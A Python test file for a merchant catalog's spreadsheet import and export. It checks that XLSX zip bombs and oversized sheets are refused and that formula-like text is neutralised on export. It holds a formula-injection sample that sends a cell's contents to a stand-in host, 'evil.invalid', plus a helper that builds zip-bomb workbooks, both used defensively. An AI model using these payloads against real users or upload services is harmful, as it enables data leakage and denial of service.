"""Spreadsheets in and out of the merchant area: an XLSX upload is refused from its zip directory
and its sheet's dimension before anything is decompressed or parsed whole (issue 13, item 3), and the
product export writes formula-like text inert, in CSV and XLSX, and imports back unchanged (item 6)."""

import csv
import io
import re
import time
import zipfile

import openpyxl
import pytest

from catalog import imports, services
from catalog.errors import CatalogErrorCode
from tests.partners import table_counts

from .factories import make_merchant, make_product
from .test_imports import TWO_PRODUCTS, catalog_of, row, xlsx_bytes

pytestmark = pytest.mark.django_db

DIMENSION = rb'<dimension ref="[^"]*"\s*/>'
FORMULA_TITLE = '=HYPERLINK("http://evil.invalid/?"&A2,"Click me")'


def rewritten(workbook_bytes, sheet_xml):
    """The workbook with its first sheet's XML replaced (compressed as Excel does, deflate)."""
    source = zipfile.ZipFile(io.BytesIO(workbook_bytes))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = sheet_xml if member.filename == "xl/worksheets/sheet1.xml" else source.read(member)
            target.writestr(member.filename, data)
    return out.getvalue()


def sheet_xml_of(workbook_bytes):
    return zipfile.ZipFile(io.BytesIO(workbook_bytes)).read("xl/worksheets/sheet1.xml")


def zip_bomb(padding_bytes):
    """A real one-row workbook whose sheet XML carries `padding_bytes` of whitespace in a comment:
    it compresses about a thousand times."""
    base = xlsx_bytes([row()])
    return rewritten(
        base, sheet_xml_of(base).replace(b"</worksheet>", b"<!--" + b" " * padding_bytes + b"--></worksheet>")
    )


def claims_rows(rows):
    base = xlsx_bytes([row()])
    xml = re.sub(DIMENSION, f'<dimension ref="A1:U{rows}"/>'.encode(), sheet_xml_of(base))
    assert f"A1:U{rows}".encode() in xml
    return rewritten(base, xml)


def refuse(data, filename):
    merchant = make_merchant()
    before = table_counts()
    started = time.perf_counter()
    with pytest.raises(services.CatalogError) as refused:
        imports.import_products(merchant, data, filename=filename)
    print(f"{filename}: {len(data)} bytes refused in {time.perf_counter() - started:.3f} s: {refused.value.detail}")
    assert (refused.value.code, refused.value.field) == (CatalogErrorCode.IMPORT_FILE_INVALID, "file")
    assert filename in str(refused.value.detail)
    assert table_counts() == before
    return str(refused.value.detail)


def test_an_xlsx_zip_bomb_is_refused_from_its_declared_size_before_decompressing():
    bomb = zip_bomb(60 * 1024 * 1024)  # past CROSSBORDER_MAX_IMPORT_UNCOMPRESSED_BYTES (50 MiB)
    assert len(bomb) < 200 * 1024

    assert "expands to" in refuse(bomb, "bomb.xlsx")


def test_an_xlsx_compressed_far_more_than_a_spreadsheet_is_refused():
    bomb = zip_bomb(5 * 1024 * 1024)  # within the size limit, but a thousand to one

    assert "compressed" in refuse(bomb, "squeezed.xlsx")


def test_an_xlsx_whose_sheet_claims_a_million_rows_is_refused_unread():
    assert "more than 5000 rows" in refuse(claims_rows(1_000_000), "huge.xlsx")


def test_rows_past_the_limit_are_refused_while_streaming_whatever_the_dimension_says(settings):
    settings.CATALOG_MAX_IMPORT_ROWS = 3
    base = xlsx_bytes([row(sku=f"BOTTLE-{n}") for n in range(10)])
    understated = rewritten(base, re.sub(DIMENSION, b'<dimension ref="A1"/>', sheet_xml_of(base)))
    assert b'<dimension ref="A1"/>' in sheet_xml_of(understated)

    assert "more than 3 rows" in refuse(understated, "understated.xlsx")


def test_a_workbook_within_the_limits_still_imports_every_row():
    report = imports.import_products(make_merchant(), xlsx_bytes(TWO_PRODUCTS), filename="goods.xlsx")
    assert report.ok and report.rows == 3


def test_the_csv_export_neutralises_formula_like_text_and_keeps_numbers():
    merchant = make_merchant()
    make_product(merchant, code="EVIL", brand="@SUM(1)", price="12.50", titles={"zh-hans": "-1+2", "en": FORMULA_TITLE})

    content, _type, _name = imports.export_products(merchant, "csv")

    header, values = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    cells = dict(zip(header, values, strict=True))
    assert cells["title_en"] == "'" + FORMULA_TITLE
    assert cells["title_zh-hans"] == "'-1+2"
    assert cells["brand"] == "'@SUM(1)"
    assert (cells["price"], cells["stock"], cells["hs_code"]) == ("12.50", "10", "392410")


def test_the_xlsx_export_stores_formula_like_text_as_text_not_as_a_formula():
    merchant = make_merchant()
    make_product(merchant, code="EVIL", titles={"zh-hans": "奶瓶", "en": FORMULA_TITLE})

    content, _type, _name = imports.export_products(merchant, "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    title = sheet.cell(row=2, column=header.index("title_en") + 1)
    price = sheet.cell(row=2, column=header.index("price") + 1)
    assert (title.value, title.data_type) == ("'" + FORMULA_TITLE, "s")
    assert price.data_type == "n"
    assert b"<f>" not in sheet_xml_of(content)


@pytest.mark.parametrize("fmt", imports.FORMATS)
def test_neutralised_text_imports_back_as_the_merchant_wrote_it(fmt):
    merchant = make_merchant()
    make_product(merchant, code="EVIL", brand="+brand", titles={"zh-hans": "@奶瓶", "en": FORMULA_TITLE})
    before = catalog_of(merchant)

    content, _type, filename = imports.export_products(merchant, fmt)
    report = imports.import_products(merchant, content, filename=filename)

    assert report.ok, report.errors
    assert catalog_of(merchant) == before
